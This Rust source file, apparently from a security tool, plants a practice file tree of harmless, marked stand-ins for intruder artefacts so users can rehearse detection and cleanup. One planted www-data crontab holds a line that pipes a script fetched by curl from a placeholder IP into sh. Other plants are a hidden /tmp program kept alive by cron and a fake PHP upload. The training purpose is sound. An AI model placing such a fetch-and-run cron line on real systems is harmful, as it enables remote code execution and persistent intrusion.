//! The practice range: a small file tree with harmless stand-ins, so that the whole way from finding to undo can be walked
//! in a minute. Its marker is our own, so that no other protection on the machine takes the files away.
use assize_domain::order::Fault;
use assize_host::practice::{end_all, running, start};
use std::{
    fs, io,
    os::unix::fs::{DirBuilderExt, PermissionsExt},
    path::{Path, PathBuf},
};

/// A range below one folder, with its vault in another; both are the application's own.
pub(crate) struct Practice {
    folder: PathBuf,
    state: PathBuf,
}

const THREAT: &str = "assize practice range: harmless stand-in for a threat";
const ODDITY: &str = "assize practice range: harmless stand-in for something odd";

/// How long the stand-ins run by themselves: a day, should nobody end them.
const SECONDS: u32 = 24 * 60 * 60;

enum Content {
    Text(&'static str),
    /// A text with a marker at its end.
    Marked(&'static str, &'static str),
    /// A copy of the machine's own `sleep` with a marker at its end: it still runs, and it is nobody else's file.
    Program(&'static str),
}

struct Planted {
    path: &'static str,
    mode: u32,
    content: Content,
    runs: bool,
}

const fn text(path: &'static str, mode: u32, content: &'static str) -> Planted {
    Planted { path, mode, content: Content::Text(content), runs: false }
}

/// What a small office computer might hold, and what an intruder might have left on it.
const PLANTED: [Planted; 12] = [
    text(
        "etc/passwd",
        0o644,
        "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nann:x:1000:1000:Ann:/home/ann:/bin/bash\n",
    ),
    text("etc/cron.d/backup", 0o644, "30 2 * * * root /usr/local/sbin/backup.sh\n"),
    text("usr/local/sbin/backup.sh", 0o755, "#!/bin/sh\nset -eu\ntar -C / -czf /srv/backup/home.tar.gz home\n"),
    text("home/ann/Downloads/holiday.txt", 0o644, "Packing list: tent, torch, tea.\n"),
    text("var/www/html/index.html", 0o644, "<h1>Ann's flowers</h1>\n"),
    // A program in a temporary folder that a scheduled task keeps alive.
    Planted { path: "tmp/.sync/updater", mode: 0o755, content: Content::Program(THREAT), runs: true },
    text("etc/cron.d/sync-updater", 0o644, "SHELL=/bin/sh\n*/5 * * * * root /tmp/.sync/updater 900 >/dev/null 2>&1\n"),
    // A file that came with a mail, and one that pretends to be part of the system.
    Planted {
        path: "home/ann/Downloads/invoice.txt",
        mode: 0o644,
        content: Content::Marked("Dear customer, please find enclosed our invoice.\n", THREAT),
        runs: false,
    },
    Planted {
        path: "usr/lib/office/libtheme.so",
        mode: 0o644,
        content: Content::Marked("Not a library.\n", THREAT),
        runs: false,
    },
    // Odd, but perhaps somebody knows what it is for.
    Planted { path: "home/ann/tools/.helper/helper", mode: 0o755, content: Content::Program(ODDITY), runs: true },
    Planted {
        path: "var/www/html/uploads/picture.php",
        mode: 0o644,
        content: Content::Marked("Not a picture.\n", ODDITY),
        runs: false,
    },
    // One bad line between two good ones.
    text(
        "var/spool/cron/crontabs/www-data",
        0o600,
        "15 4 * * * /usr/bin/find /var/www/cache -mtime +7 -delete\n*/10 * * * * curl -fsS http://192.0.2.1/practice.sh | sh\n@daily /usr/bin/php /var/www/shop/report.php\n",
    ),
];

impl Practice {
    pub(crate) fn new(folder: PathBuf, state: PathBuf) -> Self {
        Self { folder, state }
    }

    /// Plants everything. A range that could not be planted whole is removed again.
    pub(crate) fn plant(&self) -> Result<(), Fault> {
        if self.folder.exists() {
            return Err(Fault::new(
                "practice_exists",
                format!("There is something in {} already.", self.folder.display()),
                "Remove the practice range first.",
            ));
        }
        self.plant_all().map_err(|error| {
            // What the failure left is ours alone.
            let _ = self.clear();
            Fault::new(
                "practice_not_planted",
                format!("The practice range could not be made in {}: {error}.", self.folder.display()),
                "Nothing else was changed. See whether the disk is full.",
            )
        })
    }

    fn plant_all(&self) -> io::Result<()> {
        fs::DirBuilder::new().recursive(true).mode(0o700).create(&self.folder)?;
        for planted in &PLANTED {
            let path = self.folder.join(planted.path);
            if let Some(parent) = path.parent() {
                fs::create_dir_all(parent)?;
            }
            fs::write(&path, planted.content.bytes()?)?;
            fs::set_permissions(&path, fs::Permissions::from_mode(planted.mode))?;
        }
        for planted in PLANTED.iter().filter(|p| p.runs) {
            // Where the folder's volume runs no programs, the files alone still show the way.
            let _ = start(&self.folder.join(planted.path), SECONDS);
        }
        Ok(())
    }

    /// Ends its processes, then removes its files, its vault and its journal.
    pub(crate) fn clear(&self) -> Result<(), Fault> {
        let removed =
            end_all(&self.folder).and_then(|()| remove_folder(&self.folder)).and_then(|()| remove_folder(&self.state));
        removed.map_err(|error| {
            Fault::new(
                "practice_not_removed",
                format!("The practice range could not be removed whole: {error}."),
                "Nothing outside its folder was touched. Try once more.",
            )
        })
    }

    pub(crate) fn running(&self) -> u32 {
        u32::try_from(running(&self.folder)).unwrap_or(u32::MAX)
    }
}

impl Content {
    fn bytes(&self) -> io::Result<Vec<u8>> {
        Ok(match self {
            Self::Text(text) => text.as_bytes().to_vec(),
            Self::Marked(text, marker) => format!("{text}{marker}\n").into_bytes(),
            Self::Program(marker) => {
                let mut program = fs::read("/bin/sleep").or_else(|_| fs::read("/usr/bin/sleep"))?;
                program.extend_from_slice(marker.as_bytes());
                program
            }
        })
    }
}

fn remove_folder(folder: &Path) -> io::Result<()> {
    match fs::remove_dir_all(folder) {
        Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(()),
        other => other,
    }
}

pub(crate) fn not_a_range() -> Fault {
    Fault::new(
        "not_a_practice_range",
        "This is a real device: nothing is planted on it and nothing is cleared from it.",
        "Make a practice range instead.",
    )
}
